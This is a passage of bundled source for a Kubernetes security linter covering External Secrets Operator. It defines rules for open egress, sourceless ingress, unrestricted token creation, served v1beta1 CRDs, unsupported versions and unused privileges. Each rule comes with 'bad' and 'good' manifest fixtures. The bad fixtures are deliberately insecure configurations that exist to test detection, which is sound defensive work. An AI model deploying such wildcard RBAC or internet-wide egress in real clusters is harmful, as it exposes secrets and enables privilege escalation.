    - ports: [{ port: 53, endPort: 80 }] # finding[medium]: every address of the internet on TCP 53-80
    - ports: [{ port: 22, endPort: 53 }] # finding[medium]: every address of the internet on TCP 22-53
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  endpointSelector: {}
  egress:
    - toEntities: [kube-apiserver]
    - toFQDNs: [{ matchPattern: "*.vault.example.com" }]
    - toFQDNs: [{ matchPattern: "*" }] # finding[medium]: it lets the controller connect to every address of the internet on TCP 443
      toPorts: [{ ports: [{ port: "443", protocol: TCP }] }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
apiVersion: projectcalico.org/v3
kind: NetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  types: [Egress]
  egress:
    - action: Deny
      destination: { nets: [169.254.0.0/16] }
    - action: Allow # finding: it lets the controller connect to every address of the internet on every port
      destination: { notNets: [10.0.0.0/8] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  good: [
    `
# DNS may go anywhere; the rest names its addresses, or pods of the cluster.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress:
    - ports: [{ port: 53, protocol: UDP }, { port: 53 }]
    - to: [{ ipBlock: { cidr: 10.0.0.0/8 } }, { ipBlock: { cidr: 203.0.113.10/32 } }]
    - to: [{ namespaceSelector: {} }]
    - to: [{ ipBlock: { cidr: "\${PROVIDER_CIDR}" } }]
---
# A rule that speaks of ingress only opens nothing here.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: ingress, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Ingress]
  egress: [{}]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# What is denied first stays denied.
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  endpointSelector: {}
  egress:
    - toEntities: [all]
  egressDeny:
    - toEntities: [world]
---
apiVersion: policy.networking.k8s.io/v1alpha1
kind: AdminNetworkPolicy
metadata: { name: no-internet }
spec:
  priority: 10
  subject: { namespaces: { matchLabels: { kubernetes.io/metadata.name: eso } } }
  egress:
    - action: Deny
      to: [{ networks: [0.0.0.0/0, "::/0"] }]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: egress, namespace: eso }
spec:
  podSelector: {}
  policyTypes: [Egress]
  egress: [{}]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  *check(policy, world) {
    const open = componentsUnder(policy, "egress", world).flatMap(
      (component) => openingRules(policy, component, "egress", world).map((rule2) => ({
        component,
        path: rule2.path,
        ports: withoutDns(openToInternet(rule2, component, "egress", world))
      }))
    );
    const found = open.filter(({ ports }) => ports.length > 0);
    for (const same of Map.groupBy(found, ({ path }) => JSON.stringify(path)).values()) {
      const worst = same.find(({ ports }) => isEveryPort(ports)) ?? same[0];
      if (!worst) continue;
      yield {
        path: worst.path,
        ...!isEveryPort(worst.ports) && { severity: "medium" },
        message: messageOf2(
          same.map(({ component }) => component),
          worst.ports
        )
      };
    }
  }
});
var DNS = 53;
var withoutDns = (ports) => ports.filter(({ first, last }) => first !== DNS || last !== DNS);
function messageOf2(components, ports) {
  const where = isEveryPort(ports) ? "every port" : portsText(ports);
  return `it lets ${rolesText(components)} connect to every address of the internet on ${where}`;
}
var portsText = (ports) => [...Map.groupBy(ports, ({ protocol }) => protocol)].map(([protocol, ranges]) => `${protocol} ${joined(ranges.map(rangeText))}`).join(", ");
var rangeText = ({ first, last }) => first === last ? `${first}` : `${first}-${last}`;

// src/rules/unrestricted-ingress.ts
var unrestricted_ingress_default = defineRule({
  id: "unrestricted-ingress",
  title: "A network policy lets everybody connect to the operator",
  severities: ["medium"],
  kinds: POLICY_KINDS,
  needs: ["install"],
  why: "The policy names ports but nobody who may connect to them: any pod of any namespace reads the operator’s metrics, which name namespaces, stores and ExternalSecrets, and tries its luck with the webhook’s server.",
  remedy: "Give each rule of `networkPolicy.ingress`, `webhook.networkPolicy.ingress` and `certController.networkPolicy.ingress` in the operator chart a `from`: the namespace of the monitoring for the metrics port, the addresses of the API server for the webhook port (whoever runs the cluster knows them). Rules for health ports can go: probes come from the node, which policies let through.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/services-networking/network-policies/#networkpolicy-resource"
  ],
  guide: ["NS1"],
  bad: [
    `
# As the operator's chart has it: ports without a source.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: webhook, namespace: eso }
spec:
  podSelector: { matchLabels: { app: webhook } }
  ingress:
    - ports: # finding: it lets any pod of the cluster connect to the webhook on 8080 (metrics) and 10250 (webhook)
        - { port: metrics }
        - { port: 10250, protocol: TCP }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    metadata: { labels: { app: webhook } }
    spec:
      containers:
        - name: webhook
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: [webhook, --port=10250]
          ports: [{ name: metrics, containerPort: 8080 }]
`,
    `
# A selector of namespaces that is empty takes every namespace.
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: metrics, namespace: eso }
spec:
  podSelector: {}
  ingress:
    - from: [{ namespaceSelector: {} }] # finding: it lets any pod of the cluster connect to the controller on 9090 (metrics)
      ports: [{ port: 9000, endPort: 9100 }]
    - from: [{ namespaceSelector: { matchLabels: { team: monitoring } } }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0", args: ["--metrics-addr=:9090"] }
`
  ],
  good: [
    `
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: metrics, namespace: eso }
spec:
  podSelector: {}
  ingress:
    - from: [{ namespaceSelector: { matchLabels: { kubernetes.io/metadata.name: monitoring } } }]
      ports: [{ port: 8080 }]
    - from: [{ podSelector: {} }]
    - ports: [{ port: 8080, protocol: UDP }, { port: 9999 }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`,
    `
# An empty rule of Cilium lets nobody in; a server on its own loopback is not there for others.
apiVersion: cilium.io/v2
kind: CiliumNetworkPolicy
metadata: { name: eso, namespace: eso }
spec:
  endpointSelector: {}
  ingress:
    - {}
    - fromEntities: [all]
      toPorts: [{ ports: [{ port: "8080" }] }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: ["--metrics-addr=127.0.0.1:8080"]
`
  ],
  *check(policy, world) {
    const open = componentsUnder(policy, "ingress", world).flatMap(
      (component) => openingRules(policy, component, "ingress", world).map((rule2) => ({
        component,
        path: rule2.path,
        listeners: openedBy(rule2, component, world)
      }))
    );
    const found = open.filter(({ listeners }) => listeners.length > 0);
    for (const same of Map.groupBy(found, ({ path }) => JSON.stringify(path)).values()) {
      const [first] = same;
      if (!first) continue;
      const roles = rolesText(same.map(({ component }) => component));
      const listeners = same.flatMap((one) => one.listeners);
      yield {
        path: first.path,
        message: `it lets any pod of the cluster connect to ${roles} on ${listenersText(listeners)}`
      };
    }
  }
});

// src/rules/unrestricted-token-creation.ts
var unrestricted_token_creation_default = defineRule({
  id: "unrestricted-token-creation",
  title: "Tokens can be made for any ServiceAccount",
  severities: ["high", "medium"],
  kinds: ROLE_KINDS,
  why: "Whoever may make a token for every ServiceAccount in reach can become each of them, those of kube-system included, and has all their rights in the cluster and at the cloud.",
  remedy: "Set `rbac.serviceAccountTokenCreate: false` in the operator chart (2.5.0 on), and give the controller a Role per namespace whose `resourceNames` lists the ServiceAccounts that stores refer to.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#token-request"
  ],
  guide: ["RM6", "TM1", "TM2"],
  bad: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-controller }
rules:
  - apiGroups: [""]
    resources:
      - serviceaccounts
      - serviceaccounts/token # finding: ServiceAccount eso/controller (in all namespaces) can make a token for any ServiceAccount there
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-controller }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# In one namespace it is every ServiceAccount of that one.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: eso-token, namespace: shop }
rules:
  - apiGroups: [""]
    resources: ["*/token"] # finding: ServiceAccount eso/controller (in namespace shop) can make a token for any ServiceAccount there
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-token, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: eso-token }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# A mere * counts for those who hold rights on the operator's kinds.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-all }
rules:
  - apiGroups: [external-secrets.io]
    resources: ["*"]
    verbs: ["*"]
  - apiGroups: ["*"]
    resources: ["*"] # finding: ServiceAccount eso/controller (in all namespaces) can make a token
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-all }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-all }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: admins }
`,
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: token-maker }
rules:
  - apiGroups: [""]
    resources: [serviceaccounts/token] # finding[medium]: whoever gets this role can make a token for any ServiceAccount, and no binding in the set says who that is
    verbs: [create]
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      path: kv
      auth: { kubernetes: { mountPath: k8s, role: shop, serviceAccountRef: { name: shop, audiences: [vault] } } }
`
  ],
  good: [
    `
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: eso-token, namespace: shop }
rules:
  - apiGroups: [""]
    resources: [serviceaccounts/token]
    resourceNames: [shop-vault]
    verbs: [create]
  - apiGroups: [""]
    resources: [serviceaccounts, "*"]
    verbs: [get, list, watch]
  - apiGroups: [authentication.k8s.io]
    resources: [tokenreviews, serviceaccounts/token]
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-token, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: eso-token }
subjects:
  - { kind: ServiceAccount, name: controller, namespace: eso }
`,
    `
# A backup tool's wildcard is not this tool's business.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: backup }
rules:
  - apiGroups: ["*"]
    resources: ["*"]
    verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: backup }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: backup }
subjects:
  - { kind: ServiceAccount, name: backup, namespace: backup }
`
  ],
  *check(role, { rbac, eso }) {
    const grants = rbac.grantsOf(role);
    for (const rule2 of policyRules(role)) {
      if (rule2.resourceNames.length > 0 || verbsGiven(rule2, TOKENS2).length === 0) continue;
      const isNamed2 = namesResource(rule2, TOKENS2);
      const held = isNamed2 ? grants : grants.filter(({ subject }) => eso.isInScope(subject));
      const path = resourcePath(rule2, TOKENS2.resource);
      if (held.length > 0)
        yield {
          path,
          message: `${holders(held)} can make a token for any ServiceAccount there`,
          related: bindingsOf(held)
        };
      else if (isNamed2) yield { path, severity: "medium", message: UNBOUND };
    }
  },
  fix(fault) {
    const accounts = tokenAccounts(fault.world);
    return fault.manifest?.template === void 0 ? namedAccounts(fault, accounts) : switchedOff(fault, accounts);
  }
});
function namedAccounts({ manifest, path }, accounts) {
  const rule2 = manifest && policyRules(manifest)[Number(path[1])];
  if (!rule2 || accounts.length === 0 || rule2.resources.some((resource) => resource !== TOKENS2.resource)) return void 0;
  return unsafe(
    `Does the holder make tokens for ${joined(accounts, "or")} only? Others are refused.`,
    setting([...rule2.path, "resourceNames"], accounts)
  );
}
function switchedOff(fault, accounts) {
  const values = chartValues(fault, { "rbac.serviceAccountTokenCreate": false }, "2.5.0");
  if (accounts.length > 0) return unsafe(OTHER_STORES, values && [...values, ...generated("rbac")]);
  return fault.world.has("complete") ? safe(values) : unsafe(OTHER_STORES, values);
}
var OTHER_STORES = "Does a store that is not in this set sign in as a ServiceAccount? The operator needs a Role that lets it make its token.";
var TOKENS2 = { group: "", resource: "serviceaccounts/token", verbs: ["create"] };
var UNBOUND = "whoever gets this role can make a token for any ServiceAccount, and no binding in the set says who that is";

// src/rules/unsafe-v1beta1-served.ts
var unsafe_v1beta1_served_default = defineRule({
  id: "unsafe-v1beta1-served",
  title: "A CRD of the operator still serves v1beta1",
  severities: ["medium"],
  kinds: [CRD_KIND],
  why: "The operator has ended v1beta1: nobody tests what it does there any more, and stored objects change their form between the versions without a conversion. The operator's webhook and most admission policies are written for v1: one that matches exactly (`matchPolicy: Exact`), or reads fields of v1, lets an object in v1beta1 pass unseen.",
  remedy: "Rewrite what is left in `external-secrets.io/v1beta1` to v1 (the rule deprecated-api-version finds it), then set `crds.unsafeServeV1Beta1: false` in the operator chart. The chart announces that the value will be removed.",
  references: [
    "https://external-secrets.io/latest/introduction/deprecation-policy/",
    "https://kubernetes.io/docs/reference/access-authn-authz/extensible-admission-controllers/#matching-requests-matchpolicy"
  ],
  guide: ["AC1"],
  bad: [
    `
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: secretstores.external-secrets.io }
spec:
  group: external-secrets.io
  names: { kind: SecretStore, listKind: SecretStoreList, plural: secretstores, singular: secretstore }
  scope: Namespaced
  versions:
    - name: v1
      schema:
        openAPIV3Schema:
          # a long one
          type: object
      served: true
      storage: true
    - name: v1beta1
      deprecated: true
      schema:
        openAPIV3Schema:
          type: object
      served: true # finding: it serves v1beta1 of SecretStore beside v1
      storage: false
`
  ],
  good: [
    `
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: secretstores.external-secrets.io }
spec:
  group: external-secrets.io
  names: { kind: SecretStore, listKind: SecretStoreList, plural: secretstores, singular: secretstore }
  scope: Namespaced
  versions:
    - { name: v1, served: true, storage: true, schema: { openAPIV3Schema: { type: object } } }
    - { name: v1beta1, served: false, storage: false, schema: { openAPIV3Schema: { type: object } } }
---
# Before v1 there was nothing else.
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: externalsecrets.external-secrets.io }
spec:
  group: external-secrets.io
  names: { kind: ExternalSecret, plural: externalsecrets }
  scope: Namespaced
  versions:
    - { name: v1alpha1, served: true, storage: false }
    - { name: v1beta1, served: true, storage: true }
---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: { name: widgets.example.com }
spec:
  group: example.com
  names: { kind: Widget, plural: widgets }
  scope: Namespaced
  versions:
    - { name: v1, served: true, storage: true }
    - { name: v1beta1, served: true, storage: false }
`
  ],
  *check(manifest) {
    const crd = crdOf(manifest);
    if (!crd?.versions.some(({ name, isServed }) => name === "v1" && isServed)) return;
    const kind = crd.defines.slice(crd.defines.indexOf("/") + 1);
    for (const [i, { name, isServed }] of crd.versions.entries())
      if (name === "v1beta1" && isServed)
        yield { path: ["spec", "versions", i, "served"], message: `it serves v1beta1 of ${kind} beside v1` };
  },
  fix: (fault) => unsafe(
    WRITTEN,
    fault.manifest?.template === void 0 ? setting(fault.path, false) : chartValues(fault, { "crds.unsafeServeV1Beta1": false }, "1.3.1")
  )
});
var WRITTEN = "Does anybody still write or read objects as v1beta1? That fails from then on.";

// src/model/eso/support.ts
var MINORS = DATED.minors;
function endOfSupport(version) {
  const minor = /^\d+\.\d+(?=\.)/.exec(version)?.[0];
  const newest = MINORS[0].minor;
  return compareVersions(`${minor}.0`, `${newest}.0`) < 0 ? { newest, since: MINORS.find((entry) => entry.minor === minor)?.until } : void 0;
}

// src/rules/unsupported-eso-version.ts
var unsupported_eso_version_default = defineRule({
  id: "unsupported-eso-version",
  title: "The version of External Secrets Operator gets no fixes any more",
  severities: ["info"],
  kinds: WORKLOAD_KINDS,
  why: "The project supports its newest minor version only, for about three weeks each: older images are not rebuilt when a library in them turns out to be weak, and their faults are fixed in newer ones alone.",
  remedy: "Upgrade one minor version at a time, and let a bot raise the chart’s version, so that the next fix is a small step.",
  references: [
    "https://external-secrets.io/latest/introduction/stability-support/",
    "https://external-secrets.io/latest/introduction/deprecation-policy/"
  ],
  guide: ["TM1"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.1.0 # finding: External Secrets Operator 2.1.0 has been out of support since 2026-03-20
---
# Once for each install, at its controller.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets-webhook, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: webhook, image: "ghcr.io/external-secrets/external-secrets:v2.1.0", args: [webhook] }
`,
    `
# The day is not known, a newer minor version is.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso, labels: { app.kubernetes.io/version: v2.10.1 } }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets@sha256:0b6a027b5cf322f09f6706c754e086a232ec1ddba835c8a15c6cb74ef0d43c29 # finding: External Secrets Operator 2.10.1 is out of support
`
  ],
  good: [
    `
# The newest that is known, and one that came later.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.12.3" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: next }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v3.0.0" }
`,
    `
# Nobody says which version this is.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:\${ESO_VERSION}" }
`
  ],
  *check(manifest, { eso }) {
    const component = eso.componentOf(manifest);
    if (component?.role !== "controller" || component.version === void 0) return;
    const end = endOfSupport(component.version);
    if (!end) return;
    const state = end.since === void 0 ? "is out of support" : `has been out of support since ${end.since}`;
    yield {
      path: [...component.container.path, "image"],
      message: `External Secrets Operator ${component.version} ${state}: only the newest minor version gets fixes, which was ${end.newest} or later on ${DATED.asOf}`
    };
  }
});

// src/rules/unused-reconciler-privileges.ts
var unused_reconciler_privileges_default = defineRule({
  id: "unused-reconciler-privileges",
  title: "The controller works on kinds that the cluster does not use",
  severities: ["low"],
  kinds: ROLE_KINDS,
  needs: ["complete"],
  why: "A kind that nobody uses and the operator still acts on is a way in that nobody watches: one ClusterExternalSecret of an intruder puts Secrets into every namespace, one PushSecret carries them out.",
  remedy: "Switch the kind off in the operator chart, its part of the controller and its definition together: `processClusterStore` with `crds.createClusterSecretStore`, `processClusterExternalSecret` with `crds.createClusterExternalSecret`, `processClusterPushSecret` with `crds.createClusterPushSecret`, `processPushSecret` with `crds.createPushSecret` (which needs ClusterPushSecrets off as well), `processClusterGenerator` with `crds.createClusterGenerator`.",
  references: [
    "https://external-secrets.io/latest/guides/disable-cluster-features/",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["RM6", "RM7"],
  bad: [
    `
# config: { clusters: { default: { complete: true } } }
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secrets }
rules:
  - apiGroups: [external-secrets.io]
    resources:
      - externalsecrets
      - clustersecretstores
      - clusterpushsecrets # finding: ServiceAccount eso/external-secrets may get, list, watch, update ClusterPushSecrets, and the cluster has none: processClusterPushSecret switches it off
    verbs: [get, list, watch]
  - apiGroups: [external-secrets.io]
    resources: [clusterpushsecrets, clusterpushsecrets/status]
    verbs: [update]
  - apiGroups: [generators.external-secrets.io]
    resources:
      - passwords
      - clustergenerators # finding: processClusterGenerator switches it off
    verbs: [get, list, watch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: external-secrets }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secrets }
subjects: [{ kind: ServiceAccount, name: external-secrets, namespace: eso }]
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: aws }
spec: { provider: { aws: { service: SecretsManager, region: eu-west-1 } } }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  good: [
    `
# config: { clusters: { default: { complete: true } } }
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secrets }
rules:
  - { apiGroups: [external-secrets.io], resources: [clusterpushsecrets, pushsecrets], verbs: [get, list, watch] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: external-secrets }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secrets }
subjects: [{ kind: ServiceAccount, name: external-secrets, namespace: eso }]
---
# Makes PushSecrets.
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: registry }
spec: { pushSecretSpec: { secretStoreRefs: [{ name: registry }] } }
---
# A Role gives nothing on kinds without a namespace.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: external-secrets, namespace: shop }
rules:
  - { apiGroups: [external-secrets.io], resources: [clustersecretstores, clusterexternalsecrets], verbs: [get, list, watch] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: external-secrets, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: external-secrets }
subjects: [{ kind: ServiceAccount, name: external-secrets, namespace: eso }]
---
# Not the controller's.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: auditors }
rules:
  - { apiGroups: [external-secrets.io], resources: [clustersecretstores], verbs: [get, list] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: auditors }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: auditors }
subjects: [{ kind: Group, name: auditors, apiGroup: rbac.authorization.k8s.io }]
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
`
  ],
  *check(role, world) {
    const holders2 = world.rbac.grantsOf(role).filter(({ subject }) => world.eso.isRole(subject, "controller"));
    if (holders2.length === 0) return;
    const who = [...new Set(holders2.map(({ subject }) => nameOfSubject(subject)))].join(", ");
    const everywhere = holders2.some(({ namespace }) => namespace === void 0);
    for (const kind of SWITCHED) {
      const rules = policyRules(role).filter((rule2) => namesResource(rule2, kind));
      const verbs = VERBS.filter((verb) => rules.some((rule2) => verbsGiven(rule2, { ...kind, verbs: [verb] }).length > 0));
      const [first] = rules;
      if (!first || verbs.length === 0 || !everywhere && !kind.isNamespaced || isUsed(kind, world)) continue;
      yield {
        path: resourcePath(first, kind.resource),
        message: `${who} may ${verbs.join(", ")} ${kind.plural}, and the cluster has none: ${kind.value} switches it off`
      };
    }
  },
  fix(fault) {
    const kind = SWITCHED.find(({ resource }) => resource === fault.manifest?.get(...fault.path));
    return kind && safe(chartValues(fault, Object.fromEntries(switchesOf(kind).map((key) => [key, false]))));
  }
});
var switchesOf = ({ resource, value, definition }) => [
  value,
  definition,
  ...resource === "pushsecrets" ? ["processClusterPushSecret", "crds.createClusterPushSecret"] : []
];
var VERBS = ["get", "list", "watch", "create", "update", "patch", "delete"];
var SWITCHED = [
  {
    group: ESO_GROUP,
    resource: "clustersecretstores",
    plural: "ClusterSecretStores",
    value: "processClusterStore",
    definition: "crds.createClusterSecretStore",
    users: [`${ESO_GROUP}/ClusterSecretStore`]
  },
  {
    group: ESO_GROUP,
    resource: "clusterexternalsecrets",
    plural: "ClusterExternalSecrets",
    value: "processClusterExternalSecret",
    definition: "crds.createClusterExternalSecret",
    users: [`${ESO_GROUP}/ClusterExternalSecret`]
  },
  {
    group: ESO_GROUP,
    resource: "clusterpushsecrets",
    plural: "ClusterPushSecrets",
    value: "processClusterPushSecret",
    definition: "crds.createClusterPushSecret",
    users: [`${ESO_GROUP}/ClusterPushSecret`]
  },
  {
    group: ESO_GROUP,
    resource: "pushsecrets",
    plural: "PushSecrets",
    isNamespaced: true,
    value: "processPushSecret",
    definition: "crds.createPushSecret",
    users: [`${ESO_GROUP}/PushSecret`, `${ESO_GROUP}/ClusterPushSecret`]
  },
  {
    group: GENERATORS_GROUP,
    resource: "clustergenerators",
    plural: "ClusterGenerators",
    value: "processClusterGenerator",
    definition: "crds.createClusterGenerator",
    users: [`${GENERATORS_GROUP}/ClusterGenerator`]
  }
];
var isUsed = ({ users: users2 }, world) => users2.some((kind) => world.of(kind).length > 0);

// src/rules/unwatched-secret-changes.ts
var unwatched_secret_changes_default = defineRule({
  id: "unwatched-secret-changes",
  title: "Nothing notices when others change the Secrets that the operator writes",
  severities: ["low"],
  kinds: [],
  needs: ["install", "policies"],
  why: "Whoever may update Secrets can put a credential of their own into one that the operator owns, and applications use it until the next refresh puts the right one back. The operator’s metrics do not count such changes, so that only an audit log or an admission policy sees them.",
  remedy: 'Log `update`, `patch` and `delete` of `secrets` at level `Metadata` in the audit policy, and add an admission policy that refuses changes of Secrets with the label `reconcile.external-secrets.io/managed: "true"` by anybody but the operator’s ServiceAccount.',
  references: [
    "https://kubernetes.io/docs/tasks/debug/debug-cluster/audit/",
    "https://kubernetes.io/docs/reference/access-authn-authz/validating-admission-policy/"
  ],
  guide: ["AO4"],
  bad: [
    `
# finding: no audit policy in the set logs changes of Secrets, and no admission policy in it judges them
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - { level: None, resources: [{ group: "", resources: [secrets] }] }
  - level: Metadata
---
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - { level: Metadata, verbs: [update] }
---
# A policy about every kind there is.
apiVersion: kyverno.io/v1
kind: ClusterPolicy
metadata: { name: labels }
spec:
  rules:
    - name: labels
      match: { any: [{ resources: { kinds: ["*"] } }] }
      validate: { pattern: { metadata: { labels: { team: "?*" } } } }
`
  ],
  good: [
    `
# One policy of two logs them, and a level that is filled in later may.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - { level: None }
---
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - { level: "\${LEVEL}" }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: audit.k8s.io/v1
kind: Policy
rules:
  - { level: None, verbs: [get, list, watch] }
  - { level: Metadata, resources: [{ group: "" }] }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: { name: managed-secrets }
spec:
  matchConstraints:
    resourceRules:
      - { apiGroups: [""], apiVersions: [v1], operations: [UPDATE, DELETE], resources: [secrets] }
  validations:
